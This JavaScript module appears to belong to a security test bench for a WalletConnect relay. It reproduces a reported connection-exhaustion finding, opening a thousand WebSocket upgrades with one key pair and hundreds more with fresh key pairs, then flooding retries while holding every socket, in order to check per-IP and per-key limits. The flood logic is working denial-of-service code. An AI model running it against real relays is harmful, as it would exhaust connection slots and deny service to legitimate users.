import { generateKeyPair } from '@walletconnect/relay-auth'
import { signAuthToken } from './connectBenchClient.mjs'
import { createTally } from './createTally.mjs'
import { openAttackSockets } from './openAttackSockets.mjs'

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/**
 * R2 of issue #15: one key pair tries `attempts` upgrades (1,000 in the finding, where they took every slot),
 * 50 at a time, then `freshKeyPairs` more from the same address each with a key pair of its own (which the
 * per-IP budget must stop); it holds every socket it gets. During the flood it keeps trying with its key pair,
 * `retryPerSecond` upgrades a second (the finding's pace), in case a slot frees up.
 *
 * @example const r2 = createConnectionAttack({ relayUrl, localAddress: '127.0.0.3' }); await r2.open()
 */
export function createConnectionAttack({
  relayUrl,
  localAddress,
  attempts = 1_000,
  freshKeyPairs = 500,
  retryPerSecond = 200,
}) {
  const keyPair = generateKeyPair()
  const oneKeyPair = createTally()
  const freshKeys = createTally()
  const retries = createTally()
  const clients = []
  let auth

  return {
    async open() {
      auth = await signAuthToken(keyPair, relayUrl)
      const first = await openAttackSockets({
        relayUrl,
        localAddress,
        attempts,
        concurrency: 50,
        upgrades: oneKeyPair,
        options: () => ({ keyPair, auth }),
      })
      clients.push(...first.opened)
      const fresh = await openAttackSockets({
        relayUrl,
        localAddress,
        attempts: freshKeyPairs,
        concurrency: 50,
        upgrades: freshKeys,
        options: () => ({}),
      })
      clients.push(...fresh.opened)
    },
    async flood(untilMs) {
      const perTick = Math.max(1, Math.round(retryPerSecond / 10))
      while (performance.now() < untilMs) {
        const tick = sleep(100)
        const { opened } = await openAttackSockets({
          relayUrl,
          localAddress,
          attempts: perTick,
          concurrency: perTick,
          upgrades: retries,
          options: () => ({ keyPair, auth }),
        })
        clients.push(...opened)
        await tick
      }
    },
    async close() {
      await Promise.all(clients.map((client) => client.close()))
    },
    report() {
      return {
        what:
          `1 key pair: ${attempts.toLocaleString('en-US')} upgrades, 50 at a time, then ${freshKeyPairs} with fresh key ` +
          `pairs from the same address; during the flood up to ${retryPerSecond} more a second with the first key pair`,
        upgradesOneKeyPair: oneKeyPair.toJSON(),
        upgradesFreshKeyPairs: freshKeys.toJSON(),
        upgradesDuringFlood: retries.toJSON(),
        socketsHeld: clients.filter((client) => client.open).length,
      }
    },
  }
}
